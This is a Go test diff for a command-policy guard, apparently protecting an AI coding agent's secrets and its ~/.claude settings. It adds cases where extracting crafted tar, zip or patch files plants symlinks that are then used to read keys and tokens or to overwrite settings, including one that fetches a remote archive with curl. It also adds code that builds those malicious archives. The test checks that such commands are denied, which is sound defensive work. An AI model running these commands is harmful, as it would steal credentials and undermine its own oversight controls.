@@ -1,6 +1,11 @@
 package policy
 
 import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"compress/gzip"
+	"io/fs"
 	"os"
 	"path/filepath"
 	"strconv"
@@ -19,6 +24,10 @@ func TestSelfProtectionFindings5Classes(t *testing.T) {
 		cmd  string
 		deny bool
 		link bool // proj/sec is a symlink to airlock's secrets
+		// archives writes proj/evil.tar, evil.tgz and evil.zip (links s9
+		// to the secrets, c9 to ~/.claude), plain.tar (no link),
+		// odd.tar.xz (unreadable), sym.diff and fix.diff.
+		archives bool
 	}{
 		// L2: a wrapper that changes directory.
 		{cmd: `env -C @HOME@/.claude tee settings.local.json`, deny: true},
@@ -69,6 +78,18 @@ func TestSelfProtectionFindings5Classes(t *testing.T) {
 		{cmd: `pkill -f 'node server.js'`},
 		{cmd: `pgrep -f node | xargs kill`},
 		{cmd: `docker run --pid=host --rm alpine ps aux`},
+
+		// L5: links an archive or a patch makes, used at once.
+		{cmd: `tar -xf evil.tar -C out && cat out/s9/human.key`, deny: true, archives: true},
+		{cmd: `tar xzf evil.tgz && cp /bin/true c9/settings.json`, deny: true, archives: true},
+		{cmd: `unzip -q evil.zip && base64 s9/serve.token`, deny: true, archives: true},
+		{cmd: `tar xJf odd.tar.xz && cat x/serve.token`, deny: true, archives: true},
+		{cmd: `curl -sL http://192.0.2.2/a.tgz | tar xz && cat s9/serve.token`, deny: true, archives: true},
+		{cmd: `git apply sym.diff && tee s10/x < /dev/null`, deny: true, archives: true},
+		{cmd: `patch -p1 -i sym.diff && cat s10/human.key`, deny: true, archives: true},
+		{cmd: `tar xf plain.tar && cat a.txt`, archives: true},
+		{cmd: `tar xf evil.tar && cat src/m.py`, archives: true},
+		{cmd: `git apply fix.diff && python3 src/m.py`, archives: true},
 	}
 	for i, c := range cases {
 		// Named by number: a test's temporary directory holds its name,
@@ -92,6 +113,9 @@ func TestSelfProtectionFindings5Classes(t *testing.T) {
 			if err := os.Chmod(filepath.Join(home, ".local/state/airlock/secrets"), 0o700); err != nil {
 				t.Fatal(err)
 			}
+			if c.archives {
+				writeArchives(t, f)
+			}
 			if c.link {
 				if err := os.Symlink(f.path("home/.local/state/airlock/secrets"), f.path("proj/sec")); err != nil {
 					t.Fatal(err)
@@ -107,5 +131,55 @@ func TestSelfProtectionFindings5Classes(t *testing.T) {
 				t.Errorf("%q: ordinary work denied by %s (%v)", cmd, v.Rule, v.Reasons)
 			}
 		})
+	}
+}
+
+// writeArchives writes the archives and patches of the L5 cases.
+func writeArchives(t *testing.T, f *fixture) {
+	links := map[string]string{"s9": f.path("home/.local/state/airlock/secrets"), "c9": f.path("home/.claude")}
+	tarOf := func(links map[string]string, files map[string]string) []byte {
+		var b bytes.Buffer
+		w := tar.NewWriter(&b)
+		for name, target := range links {
+			if err := w.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeSymlink, Linkname: target, Mode: 0o777}); err != nil {
+				t.Fatal(err)
+			}
+		}
+		for name, body := range files {
+			if err := w.WriteHeader(&tar.Header{Name: name, Typeflag: tar.TypeReg, Size: int64(len(body)), Mode: 0o644}); err != nil {
+				t.Fatal(err)
+			}
+			w.Write([]byte(body))
+		}
+		w.Close()
+		return b.Bytes()
+	}
+	evil := tarOf(links, nil)
+	var gz bytes.Buffer
+	zw := gzip.NewWriter(&gz)
+	zw.Write(evil)
+	zw.Close()
+	var zb bytes.Buffer
+	z := zip.NewWriter(&zb)
+	for name, target := range links {
+		h := &zip.FileHeader{Name: name}
+		h.SetMode(fs.ModeSymlink | 0o777)
+		w, err := z.CreateHeader(h)
+		if err != nil {
+			t.Fatal(err)
+		}
+		w.Write([]byte(target))
+	}
+	z.Close()
+	sym := "diff --git a/s10 b/s10\nnew file mode 120000\nindex 0000000..ea7ab68\n--- /dev/null\n+++ b/s10\n@@ -0,0 +1 @@\n+" + f.path("home/.local/state/airlock/secrets") + "\n\\ No newline at end of file\n"
+	fix := "diff --git a/src/m.py b/src/m.py\n--- a/src/m.py\n+++ b/src/m.py\n@@ -1 +1 @@\n-print(1)\n+print(2)\n"
+	for name, data := range map[string][]byte{
+		"proj/evil.tar": evil, "proj/evil.tgz": gz.Bytes(), "proj/evil.zip": zb.Bytes(),
+		"proj/plain.tar": tarOf(nil, map[string]string{"a.txt": "a\n"}), "proj/odd.tar.xz": []byte("\xfd7zXZ\x00not read"),
+		"proj/sym.diff": []byte(sym), "proj/fix.diff": []byte(fix),
+	} {
+		if err := os.WriteFile(f.path(name), data, 0o644); err != nil {
+			t.Fatal(err)
+		}
 	}
 }
